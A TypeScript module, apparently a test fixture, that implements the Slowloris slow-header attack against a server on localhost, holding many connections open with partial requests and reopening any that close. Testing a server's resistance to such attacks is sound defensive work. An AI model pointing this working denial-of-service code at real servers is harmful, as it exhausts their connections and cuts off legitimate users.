import net from 'node:net'

/** Another host than the clients, as far as the server can see. All of 127.0.0.0/8 is this machine (on macOS, only what
 * `ifconfig lo0 alias` has added). */
const localAddress = '127.0.0.66'

/** The attack of 2009: connections that begin a request, add a header line now and then, and never end it. Whichever the
 * server closes is opened again. */
export class Slowloris {
  readonly #sockets = new Set<net.Socket>()
  readonly #port: number
  #drip: NodeJS.Timeout | undefined
  #isOver = false

  constructor(port: number) {
    this.#port = port
  }

  begin(connections: number): void {
    for (let i = 0; i < connections; i++) this.#connect()
    this.#drip = setInterval(() => {
      for (const socket of this.#sockets) if (socket.writable) socket.write('X-And-Another: thing\r\n')
    }, 300)
  }

  end(): void {
    this.#isOver = true
    clearInterval(this.#drip)
    for (const socket of this.#sockets) socket.destroy()
  }

  #connect(): void {
    const socket = net.connect({ port: this.#port, host: '127.0.0.1', localAddress })
    this.#sockets.add(socket)
    socket.on('connect', () => socket.write('GET / HTTP/1.1\r\nHost: attacked\r\n'))
    socket.on('error', () => {})
    socket.resume()
    socket.on('close', () => {
      this.#sockets.delete(socket)
      setTimeout(() => !this.#isOver && this.#connect(), 500).unref()
    })
  }
}
